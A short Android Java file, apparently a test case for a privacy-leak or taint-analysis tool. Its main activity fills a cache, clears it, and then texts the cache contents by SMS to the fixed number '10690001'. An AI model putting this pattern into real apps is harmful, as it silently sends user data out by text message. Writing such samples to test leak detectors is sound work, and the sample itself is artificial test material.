package cn.shanhai.staticcachecleared;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Cache.fill(this);
    setTitle(Cache.get());
    Cache.clear();
    SmsManager.getDefault().sendTextMessage("10690001", null, Cache.get(), null, null);
  }
}
